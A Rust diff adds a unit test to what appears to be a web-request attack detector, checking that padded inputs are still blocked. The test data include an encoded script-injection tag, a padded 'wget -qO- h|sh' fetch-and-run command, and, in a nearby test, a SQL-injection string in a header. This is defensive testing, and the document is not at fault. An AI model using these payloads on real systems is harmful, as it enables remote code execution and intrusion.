@@ -597,6 +597,14 @@ mod tests {
     }
 
     #[test]
+    fn padding_hides_nothing() {
+        let tags = format!("/?q={}%3Cscript%20src=//h%3E", "%3C+".repeat(64));
+        assert_eq!(of(&tags).verdict(Level::Low), Verdict::Block);
+        let commands = format!("/?q={}wget%20-qO-%20h|sh", ":;".repeat(300));
+        assert_eq!(of(&commands).verdict(Level::High), Verdict::Block);
+    }
+
+    #[test]
     fn credentials_are_not_looked_at() {
         let headers = [(&b"authorization"[..], &b"Bearer ' or '1'='1"[..])];
         assert_eq!(Inspector::new().inspect_text(b"/", headers).score(), 0);
